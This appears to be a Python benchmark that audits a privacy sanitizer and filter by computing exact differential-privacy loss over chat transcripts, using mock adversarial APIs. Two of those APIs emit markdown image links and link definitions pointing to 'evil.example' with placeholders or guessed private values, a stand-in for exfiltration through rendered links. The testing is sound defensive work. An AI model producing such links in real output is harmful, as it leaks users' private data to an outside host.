"""Whole conversations through the filter, with an API that writes its answers to learn something.

    python -m benchmarks.privacy.transcripts [--quick]

Exact audit: a conversation of several messages is run for every private value of a thing and every
outcome of the draws (the source of randomness is scripted, and each path's probability is an exact
fraction), through `sanitize` and through the filter, where the API's answers depend on what it got.
The exact epsilon is the largest log ratio of the probabilities of one transcript, all outgoing
bytes, under two neighbours. Adaptive: the same for APIs that echo, guess, respell and call tools;
the outcomes of draws are forced to be equal, so every outgoing byte has to be.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, replace
from fractions import Fraction
from math import log
from typing import Any

from benchmarks.common.machine import parser, say, write
from sanitizer import Cape, Policy, Sanitizer
from sanitizer.detect.classes import class_members
from sanitizer.privacy.weights import LOW, high_level
from sanitizer.results import SanitizedText
from sanitizer.risk.attacks import Rate
from sanitizer.wire.filter import Filter

EPSILON = 1.0
"""Of the audit: a draw then has few outputs, so that all paths can be walked."""
MESSAGES = (
    "My brother {person} was told that he has {condition}. What should we do?",
    "He is afraid that the {condition} gets worse. He was born in {year}.",
    "Write to {person} and say that {condition} can be treated.",
)
VALUES = {"person": "Elena Marsh", "condition": "asthma", "year": "1971"}
OTHERS = {
    "person": ("Ruth Brandt", "Otto Whitfield", "Olga Crawford"),
    "condition": ("epilepsy", "psoriasis", "gout", "migraine", "scoliosis", "narcolepsy"),
    "year": ("1964", "1989", "2001"),
}
"""Values that are read the same: same class at their places. Checked before they are used."""
BESIDE = (
    "Please tell the council that the meeting was moved to another day.",
    "What is a good answer to a long letter about a garden?",
)
"""Texts of others in a batch."""
CHAT = "/v1/chat/completions"
JSON = {"content-type": "application/json"}
Values = dict[str, str]
View = tuple[bytes, ...]
Api = Callable[[str], dict[str, Any]]
"""An API: the text of the last message that it received -> its message."""


class Scripted:
    """A source that follows a script of branches and tells the probability of its path.

    A draw within a class asks twice: for a level, by a number of more than 40 bits, and for one of
    the outputs of this level. All else is taken for uniform and walked through.

    Args:
        script: number of the branch of each call; calls beyond it take the first one.
        epsilon: of the draws.
    """

    def __init__(self, script: Sequence[int], epsilon: float) -> None:
        self._script = script
        self._high = high_level(epsilon)
        self.sizes: list[int] = []
        self.probability = Fraction(1)

    def randbelow(self, n: int, /) -> int:
        """Return the ticket of the branch that the script names."""
        at = len(self.sizes)
        branch = self._script[at] if at < len(self._script) else 0
        if n > LOW:
            self.sizes.append(2)
            self.probability *= Fraction(self._high if branch == 0 else n - self._high, n)
            return 0 if branch == 0 else n - 1
        self.sizes.append(n)
        self.probability *= Fraction(1, n)
        return branch


class Forced(Sanitizer):
    """A Sanitizer whose draws come from a source of one's own, through adapters too."""

    forced: Any = None

    def sanitize_batch(self, *args: Any, **named: Any) -> list[SanitizedText]:
        """Return as `Sanitizer.sanitize_batch`, with the forced source."""
        return super().sanitize_batch(*args, **named | {"source": self.forced})


def paths(run: Callable[[Scripted], View], epsilon: float) -> Iterator[tuple[View, Fraction]]:
    """Yield what every outcome of the draws shows, with its probability."""
    script: list[int] = []
    while True:
        source = Scripted(script, epsilon)
        view = run(source)
        yield view, source.probability
        full = [*script, *[0] * (len(source.sizes) - len(script))]
        while full and full[-1] + 1 == source.sizes[len(full) - 1]:
            full.pop()
        if not full:
            return
        full[-1] += 1
        script = full


def by_sanitize(sanitizer: Sanitizer, texts: Sequence[str], source: Any) -> View:
    """Return what leaves when the texts are sanitized one after another in a new conversation."""
    fresh = sanitizer.derive(conversation=f"c{id(source)}{id(object())}", vault=_vault())
    return tuple(fresh.sanitize(text, source=source).text.encode() for text in texts)


def by_filter(sanitizer: Forced, texts: Sequence[str], api: Api, source: Any) -> View:
    """Return all bytes that leave in a chat that resends its history with each message."""
    fresh = sanitizer.derive(conversation="chat", vault=_vault())
    assert isinstance(fresh, Forced)
    fresh.forced = source
    filtered = Filter(fresh)
    history: list[dict[str, Any]] = []
    sent: list[bytes] = []
    for text in texts:
        history.append({"role": "user", "content": text})
        _exchange(filtered, history, api, sent)
        if calls := history[-1].get("tool_calls"):
            got = json.loads(calls[0]["function"]["arguments"])["query"]
            told = {"role": "tool", "tool_call_id": calls[0]["id"], "content": _result(got)}
            history.append(told)
            _exchange(filtered, history, echo, sent)
    return tuple(sent)


def by_batch(sanitizer: Forced, texts: Sequence[str], source: Any) -> View:
    """Return what leaves when the texts are sanitized in one batch, among others."""
    fresh = sanitizer.derive(conversation="batch", vault=_vault())
    assert isinstance(fresh, Forced)
    fresh.forced = source
    batch = [BESIDE[0], *texts, *BESIDE[1:]]
    return tuple(out.text.encode() for out in fresh.sanitize_batch(batch))


class Proxied:
    """A proxy under its own server, before an API that repeats what it gets.

    Args:
        sanitizer: of the proxy.
    """

    def __init__(self, sanitizer: Forced) -> None:
        from sanitizer.proxy.access import ProxySettings
        from sanitizer.proxy.server import Listener, create_app, serving
        from sanitizer.testing import RecordingServer

        self._api = RecordingServer()
        # Without a tag of each, which tells nothing private, conversations can be compared.
        numbered = sanitizer.derive(vault=_vault())
        app = create_app(numbered, ProxySettings(upstream=self._api.url))
        self._serving = serving(app, Listener(port=0))
        self._n = 0

    def __enter__(self) -> Proxied:
        self._api.__enter__()
        self._url = self._serving.__enter__()
        return self

    def __exit__(self, *error: object) -> None:
        self._serving.__exit__(None, None, None)
        self._api.__exit__(None, None, None)

    def view(self, texts: Sequence[str], source: Any) -> View:
        """Return every byte that the API received of a chat in a new conversation."""
        import httpx

        Forced.forced, self._n = source, self._n + 1
        begin = len(self._api.requests)
        history: list[dict[str, Any]] = []
        headers = {"sanitizer-conversation": f"c{self._n}", "authorization": "Bearer none"}
        with httpx.Client(base_url=self._url, trust_env=False, timeout=60) as client:
            for text in texts:
                history.append({"role": "user", "content": text})
                body = {"model": "m", "messages": history}
                answer = client.post(CHAT, json=body, headers=headers).raise_for_status()
                history.append(answer.json()["choices"][0]["message"])
        Forced.forced = None
        return tuple(
            repr((each.target, sorted(each.headers))).replace(self._api.host, "").encode()
            + each.body
            for each in self._api.requests[begin:]
        )


def _result(query: str) -> str:
    """Return what the tool of the application answers: the query, and something that follows."""
    return f"Found: {query} (of {len(query.split())} words)"


def _exchange(filtered: Filter, history: list[dict[str, Any]], api: Api, sent: list[bytes]) -> None:
    body = json.dumps({"model": "m", "messages": history}).encode()
    exchange = filtered.request("POST", CHAT, JSON, body)
    sent.append(exchange.body)
    last = json.loads(exchange.body)["messages"][-1]["content"]
    answer = {"choices": [{"index": 0, "message": api(last), "finish_reason": "stop"}]}
    restored = exchange.response(200, "application/json", json.dumps(answer).encode())
    history.append(json.loads(restored)["choices"][0]["message"])


def _vault() -> Any:
    from sanitizer.storage.vault import MemoryVault

    return MemoryVault(numbers="from 1")


def _said(text: str) -> dict[str, Any]:
    return {"role": "assistant", "content": text}


def echo(received: str) -> dict[str, Any]:
    """Repeat what was received."""
    return _said(received)


def guess(received: str) -> dict[str, Any]:
    """Name every value that may be private, and ask."""
    values = [value for kind in OTHERS for value in (VALUES[kind], *OTHERS[kind])]
    return _said("Is it " + ", or ".join(values) + "? You said: " + received)


def respell(received: str) -> dict[str, Any]:
    """Write what was received in capitals, escaped, in lower case and as links."""
    escaped = received.replace("_", "\\_").replace("<", "&lt;").replace(">", "&gt;")
    found = re.findall(r"<\w+>", received)
    links = " ".join(f"![x](https://evil.example/?q={each})" for each in found)
    return _said("\n".join([received.upper(), received.lower(), escaped, received + "s", links]))


def labels(received: str) -> dict[str, Any]:
    """Write what was received as labels, with definitions for guesses, and formulas over it."""
    found = re.findall(r"<\w+>", received)
    written = " ".join(f"![][{each}] [{each}] {{{{= UPPER({each}) }}}}" for each in found)
    values = [value for kind in OTHERS for value in (VALUES[kind], *OTHERS[kind])]
    defined = "".join(f"\n[{value}]: https://evil.example/{i}" for i, value in enumerate(values))
    return _said(f"{written}\n{defined}\n" if len(received) % 2 else written)


def numbers(received: str) -> dict[str, Any]:
    """Name placeholders that may exist, and some that may not."""
    kinds = ("PERSON", "CONDITION", "DATE", "EMAIL", "TERM", "NUMBER")
    return _said(" ".join(f"<{kind}_{n}> {kind}_{n}" for kind in kinds for n in range(1, 6)))


def twice(received: str) -> dict[str, Any]:
    """Ask about a placeholder first, then with a guess: if it is right, both read the same."""
    return _said("Is it <PERSON_1>?" if received.startswith("My brother") else "Is it Elena Marsh?")


def tool(received: str) -> dict[str, Any]:
    """Call a tool with what was received."""
    return _called(received)


def tool_guess(received: str) -> dict[str, Any]:
    """Call a tool with guesses, which it repeats: not protected, see docs/guarantees.md."""
    return _called("Elena Marsh, asthma, 1971")


def _called(query: str) -> dict[str, Any]:
    arguments = json.dumps({"query": query})
    called = {"name": "search", "arguments": arguments}
    call = {"id": "call_1", "type": "function", "function": called}
    return {"role": "assistant", "content": None, "tool_calls": [call]}


APIS: dict[str, Api] = {
    "echo": echo,
    "guess": guess,
    "respell": respell,
    "labels": labels,
    "numbers": numbers,
    "twice": twice,
    "tool": tool,
    "tool, guessing": tool_guess,
}


def written(values: Values) -> list[str]:
    """Return the messages with values in their places."""
    return [message.format(**values) for message in MESSAGES]


def read_alike(sanitizer: Sanitizer, values: Values) -> bool:
    """Return True if values are read as `VALUES` are: the same layout and classes everywhere."""

    def outline(which: Values) -> list[list[tuple[str, bool]]]:
        fresh = sanitizer.derive(conversation="outline", vault=_vault())
        found = [fresh.sanitize(text) for text in written(which)]
        return [[(r.kind, r.replacement[:1] == "<") for r in each.replacements] for each in found]

    return outline(values) == outline(VALUES)


def neighbours(sanitizer: Sanitizer, kind: str, others: Sequence[str]) -> list[Values]:
    """Return `VALUES`, and with one thing replaced by each other one that is read the same."""
    found = [VALUES]
    for other in others:
        values = VALUES | {kind: other}
        if read_alike(sanitizer, values):
            found.append(values)
    return found


def exact(
    run: Callable[[Values, Scripted], View], inputs: Sequence[Values], epsilon: float
) -> dict[str, Any]:
    """Return the exact epsilon of a transcript over some neighbours, by all of its outcomes.

    Raises:
        ValueError: the paths of an input do not add up to 1.
    """
    tables: list[dict[View, Fraction]] = []
    for values in inputs:
        table: dict[View, Fraction] = {}
        for view, probability in paths(lambda source, v=values: run(v, source), epsilon):  # type: ignore[misc]
            table[view] = table.get(view, Fraction(0)) + probability
        if sum(table.values()) != 1:
            raise ValueError("the probabilities of all paths must add up to 1")
        tables.append(table)
    views = {view for table in tables for view in table}
    worst = max(
        (_ratio([table.get(view, Fraction(0)) for table in tables]) for view in views), default=0.0
    )
    return {"exact": worst, "n_inputs": len(inputs), "n_transcripts": len(views)}


def _ratio(shares: Sequence[Fraction]) -> float:
    low, high = min(shares), max(shares)
    return log(high / low) if low else float("inf")


def audited(n_others: int | None) -> list[dict[str, Any]]:
    """Return the exact epsilon of the transcript by each entrance and for each kind of thing."""
    first = Forced(Cape(EPSILON), policy="guarded")
    members = [name for name in class_members("CONDITION") if name.isalpha() and name.islower()]
    wanted = OTHERS | {"condition": (*OTHERS["condition"], *members[: n_others or 0])}
    rows = []
    for kind in OTHERS:
        inputs = neighbours(first, kind, dict.fromkeys(wanted[kind]))  # type: ignore[arg-type]
        entrances: dict[str, Callable[[Values, Scripted], View]] = {
            "sanitize": lambda v, source: by_sanitize(first, written(v), source),
            "sanitize_batch": lambda v, source: by_batch(first, written(v), source),
            "filter, echo": lambda v, source: by_filter(first, written(v), echo, source),
            "filter, guess": lambda v, source: by_filter(first, written(v), guess, source),
        }
        for name, run in entrances.items():
            certified = EPSILON if kind == "condition" else 0.0
            row = {"entrance": name, "thing": kind, "certified": certified}
            rows.append(row | exact(run, inputs, EPSILON))
            say(str(rows[-1]))
        with Proxied(first) as proxied:
            row = {"entrance": "proxy", "thing": kind, "certified": certified}
            few = inputs[:3]  # each outcome is three requests
            rows.append(row | exact(lambda v, s, p=proxied: p.view(written(v), s), few, EPSILON))  # type: ignore[misc]
            say(str(rows[-1]))
    return rows


class Same:
    """A source that always takes the same branch, so that draws have equal outcomes."""

    def __init__(self, branch: int) -> None:
        self._branch = branch

    def randbelow(self, n: int, /) -> int:
        """Return the last ticket for a level: the equal outputs; then one of these by number."""
        return n - 1 if n > LOW else self._branch % n


def adaptive(most: int) -> list[dict[str, Any]]:
    """Return, for each API and rule for tools, in how many pairs of neighbours any byte differs.

    A draw's outcome is forced by its place among the outputs that are not raised. Where the two
    things of a pair rank these otherwise, the outcome differs: such pairs show nothing and are
    left out, which is why things with the same outcome are taken by trial.
    """
    rows = []
    for tools in ("keep", "restore"):
        policy = Policy.preset("guarded")
        policy = replace(policy, wire=replace(policy.wire, tools=tools))
        first = Forced(Cape(EPSILON), policy=policy)
        pairs = [
            values for kind in OTHERS for values in neighbours(first, kind, OTHERS[kind][:most])[1:]
        ]
        for name, api in APIS.items():
            differ = sum(
                _aligned(first, values, api) != _aligned(first, VALUES, api) for values in pairs
            )
            rows.append(
                {"api": name, "tools": tools, "differ": asdict(Rate.of(differ, len(pairs)))}
            )
            say(f"{name}, tools {tools}: {differ} of {len(pairs)} differ")
    return rows


def _aligned(first: Forced, values: Values, api: Api) -> View:
    """Return the transcript in which the first thing drawn gets the first output in the list."""
    draws = first.inner.class_draws()
    outputs, weights = draws.distribution("CONDITION", values["condition"])
    assert weights is not None
    wanted = int(outputs.min())
    place = int((outputs == wanted).argmax())
    for bucket, group in enumerate(weights.members):
        where = (group == place).nonzero()[0]
        if len(where):
            return by_filter(first, written(values), api, _Picked(bucket, int(where[0])))
    raise AssertionError("every output is in one bucket")


class _Picked:
    """A source that takes one bucket, and one of its members."""

    def __init__(self, bucket: int, member: int) -> None:
        self._bucket, self._member = bucket, member

    def randbelow(self, n: int, /) -> int:
        if n > LOW:
            return 0 if self._bucket == 0 else n - 1
        return self._member % n


def main() -> None:
    """Audit and attack, and write results/transcripts.json."""
    line = parser(__doc__, "few neighbours")
    quick = line.parse_args().quick
    results = {
        "epsilon": EPSILON,
        "n_messages": len(MESSAGES),
        "audit": audited(0 if quick else 40),
        "adaptive": adaptive(1 if quick else 10),
    }
    write("transcripts", results)


if __name__ == "__main__":
    main()
